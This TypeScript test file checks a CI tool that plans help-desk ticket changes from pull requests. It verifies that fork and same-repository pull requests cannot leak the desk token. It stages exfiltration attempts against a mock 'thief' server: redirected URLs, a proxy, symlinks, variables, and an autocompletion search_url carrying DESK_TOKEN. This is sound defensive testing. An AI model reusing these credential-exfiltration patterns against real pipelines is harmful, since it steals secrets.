import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ticketFields } from '../cli/repository.ts';
import { DESK_SECRET, DESK_TOKEN, NO_FIELDS, openDesk, type StagedDesk } from './stage/desk.ts';
import { NOT_FOR_THIS_TOKEN } from './stage/faults.ts';
import { expectGolden } from './stage/golden.ts';
import type { Edits } from './stage/repository.ts';
import type { StepResult } from './stage/runner.ts';
import { mustWork, readLog } from './stage/step-log.ts';
import { openStory, type Story, type StoryPull } from './stage/story.ts';
import { openThief, type Thief } from './stage/thief.ts';

const SAVED = { 'snapshot-branch': 'deskform-snapshots' };
const ATTRIBUTES = 'attributes/ticket.yaml';

let desk: StagedDesk;
beforeAll(async () => {
  desk = await openDesk();
});
afterAll(() => desk.stop());

describe('a pull request of a fork', () => {
  let story: Story;
  let pull: StoryPull;
  beforeAll(async () => {
    story = await openStory({ 'deskform.yaml': desk.config('production'), [ATTRIBUTES]: NO_FIELDS }, DESK_SECRET);
    await mustWork(story.onMain({ command: 'snapshot', ...SAVED }));
    pull = await story.openPull({
      branch: 'patch-1',
      from: 'a-fork',
      edits: { [ATTRIBUTES]: ticketFields({ floor: 'Floor' }) },
    });
  });
  afterAll(() => story.close());

  test('its own run can only read: the plan is on the page of the run, and one warning says why there is no comment', async () => {
    const asked = desk.requestCount();
    story.github.faults.always('POST /comments', NOT_FOR_THIS_TOKEN);
    const result = await story.onPull(pull, { command: 'plan', ...SAVED });
    story.github.faults.clear();
    expect(result.exitStatus).toBe(0);
    expect(result.summary).toContain('| + | `Ticket.floor` | `Floor` | new input | at the migration |');
    const { obeyed, said, masked } = readLog(result);
    expect(obeyed.map(({ name }) => name).sort()).toEqual(['notice', 'warning']);
    expect(obeyed.filter(({ name }) => name === 'warning').map(({ text }) => text)).toEqual([
      expect.stringContaining(
        `No comment was written on pull request ${pull.number}: GitHub does not let the token (403`,
      ),
    ]);
    expect(said).not.toContain('No comment was written');
    expect(result.outputs.get('comment-url')).toBe('');
    expect(result.outputs.get('changes')).toBe('true');
    expect(await story.commentsOn(pull)).toEqual([]);
    // It holds no secret, and asks nobody but GitHub.
    expect(masked.join('\n')).not.toContain(DESK_TOKEN);
    expect(desk.requestCount()).toBe(asked);
  });

  test('a run on the main branch plans it as data, and writes the comment', async () => {
    const inputs = { command: 'plan', ...SAVED, 'pull-request': String(pull.number), 'comment-group': 'deskform' };
    const result = await story.onMain(inputs, { workflow: 'deskform comments', depth: 1, env: { DESK_TOKEN: '' } });
    expect(result.exitStatus).toBe(0);
    const [comment, ...others] = await story.commentsOn(pull);
    expect(others).toEqual([]);
    expect(comment?.body).toContain(`For \`${pull.head().slice(0, 12)}\` merged into`);
    expect(result.outputs.get('comment-url')).toContain(`#issuecomment-${comment?.id}`);
    await expectGolden('fork', [comment?.body ?? ''], [desk.url]);
  });

  test('files that hold mistakes are told there, and end nothing', async () => {
    await story.push(pull, { [ATTRIBUTES]: 'object: Ticket\nattributes:\n  - name: floor\n    display: [1]\n' });
    const inputs = { command: 'plan', ...SAVED, 'pull-request': 'all-open' };
    const result = await story.onMain(inputs, { depth: 1 });
    expect(result.exitStatus).toBe(0);
    expect(result.outputs.get('failure-reason')).toBe('INVALID_CONFIG');
    const [comment] = await story.commentsOn(pull);
    await expectGolden('fork-mistake', [comment?.body ?? ''], [desk.url]);
  });

  test('what cannot be merged is told there, without waiting for it', async () => {
    await story.commitOnMain({ [ATTRIBUTES]: ticketFields({ ceiling: 'Ceiling' }) });
    const result = await mustWork(
      story.onMain({ command: 'plan', ...SAVED, 'pull-request': 'all-open' }, { depth: 1 }),
    );
    expect(result.outputs.get('failure-reason')).toBe('NOT_MERGEABLE');
    const [comment] = await story.commentsOn(pull);
    expect(comment?.body).toContain('Resolve its conflicts with the base branch');
    expect(comment?.body).toContain('<details><summary>The plan of');
  });
});

describe('a pull request that names another address gets no token', () => {
  let thief: Thief;
  /** Targets in deskform.yaml; targets in files of their own; addresses in variables. */
  let stories: Readonly<Record<'in-one' | 'in-files' | 'in-variables', Story>>;

  const MERGED = { [ATTRIBUTES]: ticketFields({ floor: 'Floor' }) };
  const OVERLAY = 'overlays/production.yaml';
  const placeholder = (name: string): string => `"$${`{env:${name}}`}"`;
  const targetFile = (url: string): string =>
    `name: production\nurl: ${url}\nauth: { token: ${placeholder('DESK_TOKEN')} }\n`;
  const config = (...more: readonly string[]): string => desk.config('production', `overlays: ${OVERLAY}`, ...more);
  const stolen = (text: string): string => text.replaceAll(desk.url, thief.url);

  beforeAll(async () => {
    thief = await openThief();
    const open = (files: Edits): Promise<Story> => openStory({ ...MERGED, ...files }, DESK_SECRET);
    stories = {
      'in-one': await open({ 'deskform.yaml': config(), [OVERLAY]: NO_FIELDS }),
      'in-files': await open({
        'deskform.yaml': 'version: 1\nattributes: attributes/*.yaml\ntargets: targets/*.yaml\n',
        'targets/production.yaml': targetFile(desk.url),
      }),
      'in-variables': await open({
        'deskform.yaml': desk.config('production').replace(desk.url, placeholder('DESK_URL')),
      }),
    };
  });
  afterAll(async () => {
    await thief.stop();
    for (const story of Object.values(stories)) await story.close();
  });

  let count = 0;
  /** A plan against the help desk, for a pull request of this repository. */
  async function planned(story: Story, edits: Edits): Promise<StepResult> {
    count += 1;
    const pull = await story.openPull({ branch: `theft-${count}`, edits });
    const env = { DESK_URL: desk.url, THIEF_URL: thief.url };
    return story.onPull(pull, { command: 'plan', target: 'all', comment: 'off' }, { env });
  }

  test.each<[string, keyof typeof stories, () => Edits]>([
    ['in deskform.yaml', 'in-one', () => ({ 'deskform.yaml': stolen(config()) })],
    ['as a proxy', 'in-one', () => ({ 'deskform.yaml': config(`proxy: ${thief.url}`) })],
    ['by a link', 'in-one', () => ({ 'x.yaml': stolen(config()), 'deskform.yaml': { linkTo: 'x.yaml' } })],
    ['in a target file', 'in-files', () => ({ 'targets/production.yaml': targetFile(thief.url) })],
    [
      'by a link to another folder of targets',
      'in-files',
      () => ({ 'x/production.yaml': targetFile(thief.url), targets: { linkTo: 'x' } }),
    ],
    [
      'by a variable',
      'in-variables',
      () => ({ 'deskform.yaml': desk.config('production').replace(desk.url, placeholder('THIEF_URL')) }),
    ],
  ])('%s', async (_, base, edits) => {
    const before = desk.requestCount();
    const result = await planned(stories[base], edits());
    expect(thief.visits()).toBe(0);
    expect(result.exitStatus).toBe(0);
    // The help desk of the base branch was asked, and nothing says anything of the other one.
    expect(desk.requestCount()).toBeGreaterThan(before);
    expect(`${result.log}${result.summary}`).not.toContain(thief.url.slice('http://'.length));
  });

  test('in an overlay, which has no place for one', async () => {
    const result = await planned(stories['in-one'], { [OVERLAY]: `url: ${thief.url}\n${NO_FIELDS}` });
    expect(thief.visits()).toBe(0);
    expect(readLog(result).said).toContain('"url" is not a key of an attribute file');
  });

  test('nor does a definition show it that would send it along', async () => {
    const theft = [
      'object: Ticket',
      'attributes:',
      '  - name: lookup',
      '    display: Look up',
      '    data_type: autocompletion_ajax_external_data_source',
      '    data_option:',
      `      search_url: "${thief.url}/?q=#{search.term}&t=$${'{env:DESK_TOKEN}'}"`,
      '      search_result_list_key: a',
      '      search_result_value_key: a',
      '      search_result_label_key: a',
      '      http_auth_type: basic_auth',
      '      http_basic_auth_username: a',
      `      http_basic_auth_password: ${placeholder('DESK_TOKEN')}`,
      '',
    ].join('\n');
    const result = await planned(stories['in-one'], { 'attributes/theft.yaml': theft });
    expect(result.exitStatus).toBe(1);
    expect(readLog(result).said).toContain('DESK_TOKEN is a credential of the target');
    expect(thief.visits()).toBe(0);
    const shown = [readLog(result).said, result.summary, ...result.outputs.values()].join('\n');
    for (const form of [DESK_TOKEN, encodeURIComponent(DESK_TOKEN), Buffer.from(DESK_TOKEN).toString('base64')])
      expect(shown).not.toContain(form);
    expect(desk.newWrites()).toEqual([]);
  });

  test('nor when the main branch plans pull requests of forks', async () => {
    const story = stories['in-files'];
    const edits = { 'targets/production.yaml': targetFile(thief.url) };
    const pull = await story.openPull({ branch: 'fork', from: 'a-fork', edits });
    for (const wanted of [String(pull.number), 'all-open']) {
      const result = await story.onMain({ command: 'plan', 'pull-request': wanted, comment: 'off' }, { depth: 1 });
      expect(result.outputs.get('failure-reason')).toBe('');
      expect(JSON.parse(result.outputs.get('results') ?? '')).toContainEqual(
        expect.objectContaining({ pull_request: pull.number, outcome: 'changes' }),
      );
    }
    expect(thief.visits()).toBe(0);
  });
});
